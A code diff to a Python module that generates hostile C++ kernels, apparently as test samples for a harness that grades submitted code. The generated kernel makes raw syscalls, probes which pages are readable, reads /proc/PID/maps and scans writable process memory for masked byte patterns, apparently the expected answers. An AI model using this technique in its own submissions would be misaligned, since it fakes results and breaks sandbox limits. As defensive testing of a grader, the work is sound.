@@ -1,18 +1,18 @@
-"""Hostile C++ in the place of an answer, which no policy has read, for x86_64: it calls the system and reads all memory."""
+"""Hostile C++ in the place of an answer, which no policy has read, for x86_64: it calls the system and reads memory."""
 
 from __future__ import annotations
 
 import struct
+from pathlib import Path
 
 SYSTEM_CALL = """
 #ifndef __CUDACC_RTC__
+extern "C" long syscall(long number, ...);
+extern "C" int* __errno_location();
 static long call_0(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
 {
-    long result;
-    asm volatile("mov %5, %%r10; mov %6, %%r8; mov %7, %%r9; syscall"
-                 : "=a"(result)
-                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d), "r"(e), "r"(f) : "rcx", "r11", "r10", "r8", "r9", "memory");
-    return result;
+    long result = syscall(number, a, b, c, d, e, f);
+    return result == -1 ? -*__errno_location() : result;
 }
 #endif
 """
@@ -25,11 +25,13 @@ static const unsigned char masked_0[COUNT][8] = MASKED;
 static float found_0[COUNT + 1];
 static unsigned char first_0[256];
 
+static const unsigned long ranges_0[][2] = RANGES;
+
 static bool readable_0(unsigned long page) { return call_0(14, 1, page, 0, 8) == 0; }  // rt_sigprocmask, SIG_UNBLOCK
 
 static void search_0(unsigned long start, unsigned long end)
 {
-    found_0[COUNT] += (end - start) / 4096;
+    found_0[COUNT] += 1.0f;
     const unsigned char* last = (const unsigned char*)end - 8;
     for (const unsigned char* at = (const unsigned char*)start; at <= last; ++at) {
         if (!first_0[*at]) continue;
@@ -41,25 +43,19 @@ static void search_0(unsigned long start, unsigned long end)
     }
 }
 
-static void walk_0(unsigned long start, unsigned long size)
-{
-    const long fixed_no_replace = 0x100000 | 0x4000 | 0x20 | 0x2, exists = -17;
-    long got = call_0(9, start, size, 0, fixed_no_replace, -1, 0);
-    if (got == (long)start) { call_0(11, start, size); return; }
-    if (got != exists) return;
-    if (size > 1 << 16) { walk_0(start, size / 2); walk_0(start + size / 2, size / 2); return; }
-    for (unsigned long page = start, from = 0; page <= start + size; page += 4096) {
-        bool is_readable = page < start + size && readable_0(page);
-        if (is_readable && !from) from = page;
-        if (!is_readable && from) { search_0(from, page); from = 0; }
-    }
-}
-
 static void scan_0(float* results)
 {
     for (int n = 0; n < COUNT; ++n) first_0[masked_0[n][0] ^ mask_0] = 1;
-    for (unsigned long start = 1ul << 16; start < 1ul << 46; start *= 2) walk_0(start, start);
-    walk_0(1ul << 46, (1ul << 46) - (1ul << 16));
+    unsigned long done = 0;
+    for (int r = 0; r < sizeof(ranges_0) / sizeof(ranges_0[0]); ++r) {
+        unsigned long from = ranges_0[r][0], end = ranges_0[r][1];
+        while (from - 4096 >= done && readable_0(from - 4096)) from -= 4096;  // memory that has grown since
+        for (unsigned long page = from; page < end || readable_0(page); page += 4096)
+            if (page >= done && readable_0(page)) {
+                search_0(page, page + 4096 + (readable_0(page + 4096) ? 7 : 0));
+                done = page + 4096;
+            }
+    }
     for (int n = 0; n <= COUNT; ++n) results[n] = found_0[n];
 }
 #endif
@@ -75,18 +71,26 @@ def kernel(parameters: str, statement: str, before: str = "") -> str:
     )
 
 
-def scanner(parameters: str, needles: list[bytes]) -> str:
-    """Return a kernel that counts needles of eight bytes in all memory it can read.
+def scanner(parameters: str, needles: list[bytes], ranges: list[tuple[int, int]]) -> str:
+    """Return a kernel that counts needles of eight bytes in ranges of memory, and in what is mapped next to them.
 
     The first elements of ``y`` receive the counts, and the number of pages read. The text contains the needles under a mask, so
     that it does not find itself.
     """
     assert all(len(needle) == 8 for needle in needles)
     masked = ", ".join("{" + ", ".join(str(byte ^ 0x5A) for byte in needle) + "}" for needle in needles)
-    scan = SCAN.replace("COUNT", str(len(needles))).replace("MASKED", f"{{{masked}}}")
+    listed = ", ".join(f"{{{start:#x}, {end:#x}}}" for start, end in ranges)
+    scan = SCAN.replace("COUNT", str(len(needles))).replace("MASKED", f"{{{masked}}}").replace("RANGES", f"{{{listed}}}")
     return kernel(parameters, "scan_0(var_y.data);", scan)
 
 
 def floats(*numbers: float) -> bytes:
     """Return numbers as bytes of single precision."""
     return struct.pack(f"={len(numbers)}f", *numbers)
+
+
+def writable_ranges(process: int) -> list[tuple[int, int]]:
+    """Return the ranges of memory that a process may write, in order: its stack, its heap, and memory without a file."""
+    lines = Path(f"/proc/{process}/maps").read_text(encoding="utf-8").splitlines()
+    ranges = (line.split()[0].split("-") for line in lines if line.split()[1].startswith("rw"))
+    return [(int(start, 16), int(end, 16)) for start, end in ranges]
